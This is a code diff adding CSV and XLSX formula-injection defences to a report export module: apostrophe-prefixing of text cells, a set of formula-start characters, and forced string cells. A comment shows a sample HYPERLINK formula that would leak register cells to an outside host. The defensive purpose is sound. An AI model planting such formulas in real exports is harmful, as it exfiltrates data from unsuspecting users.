@@ -76,6 +76,21 @@ def cases(engine: Engine, selection: Selection, tz: ZoneInfo, chunk: int = CHUNK
         last = batch[-1].id or last
 
 
+# A cell starting with one of these is read as a formula by Excel, LibreOffice or Google Sheets
+# (OWASP "CSV injection"): =HYPERLINK("https://…?"&A3&B3) in a report's text would send the
+# register away with one click. Tab and CR start one too; the fullwidth forms are taken as
+# their ASCII selves by some spreadsheet programs.
+FORMULA_START = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
+
+
+def inert(text: str) -> str:
+    """Text as a spreadsheet shows it and never runs it: a leading ``'`` (OWASP's rule) when it
+    starts, or starts after spaces, with a character that opens a formula."""
+    if text[:1] in FORMULA_START or text.lstrip()[:1] in FORMULA_START:
+        return "'" + text
+    return text
+
+
 def _text(value: Any, kind: str, language: str) -> str:
     if value is None:
         return ""
@@ -86,6 +101,12 @@ def _text(value: Any, kind: str, language: str) -> str:
     return str(value)
 
 
+def _csv_cell(value: Any, kind: str, language: str) -> str:
+    """Dates and numbers as the product wrote them; any text (it may come from a mail) inert."""
+    text = _text(value, kind, language)
+    return inert(text) if kind == "text" else text
+
+
 def write_csv(entries: Iterator[dict[str, Any]], out: IO[bytes], language: str) -> int:
     """UTF-8 with a byte-order mark (so Excel reads the accents), ';' between fields in Dutch
     (what Excel expects with Dutch regional settings), ',' in English."""
@@ -94,7 +115,7 @@ def write_csv(entries: Iterator[dict[str, Any]], out: IO[bytes], language: str) 
     writer.writerow([c.label(language) for c in COLUMNS])
     n = 0
     for e in entries:
-        writer.writerow([_text(e[c.key], c.kind, language) for c in COLUMNS])
+        writer.writerow([_csv_cell(e[c.key], c.kind, language) for c in COLUMNS])
         n += 1
     text.flush()
     text.detach()
@@ -103,9 +124,10 @@ def write_csv(entries: Iterator[dict[str, Any]], out: IO[bytes], language: str) 
 
 def write_xlsx(entries: Iterator[dict[str, Any]], out: IO[bytes], language: str) -> int:
     """A workbook written row by row (openpyxl's write-only mode): a frozen, bold header row,
-    column widths to fit, real date cells."""
+    column widths to fit, real date cells, and text always a text cell, never a formula."""
     from openpyxl import Workbook
     from openpyxl.cell import WriteOnlyCell
+    from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE
     from openpyxl.styles import Alignment, Font
     from openpyxl.utils import get_column_letter
 
@@ -123,6 +145,7 @@ def write_xlsx(entries: Iterator[dict[str, Any]], out: IO[bytes], language: str)
     ws.append(header)
     date_format = "dd-mm-yyyy hh:mm" if language == "nl" else "yyyy-mm-dd hh:mm"
     dates = [i for i, c in enumerate(COLUMNS) if c.kind == "date"]
+    texts = [i for i, c in enumerate(COLUMNS) if c.kind == "text"]
     n = 0
     for e in entries:
         row: list[Any] = [e[c.key] if e[c.key] != "" else None for c in COLUMNS]
@@ -131,6 +154,17 @@ def write_xlsx(entries: Iterator[dict[str, Any]], out: IO[bytes], language: str)
                 cell = WriteOnlyCell(ws, value=row[i])
                 cell.number_format = date_format
                 row[i] = cell
+        for i in texts:
+            if row[i] is None:
+                continue
+            # Control characters the file format cannot hold would stop the whole export.
+            value = ILLEGAL_CHARACTERS_RE.sub("\ufffd", str(row[i]))
+            if value.startswith("=") or value in ERROR_CODES:  # openpyxl would make these a formula or an error
+                cell = WriteOnlyCell(ws, value=value)
+                cell.data_type = "s"
+                row[i] = cell
+            else:
+                row[i] = value
         ws.append(row)
         n += 1
     wb.save(out)
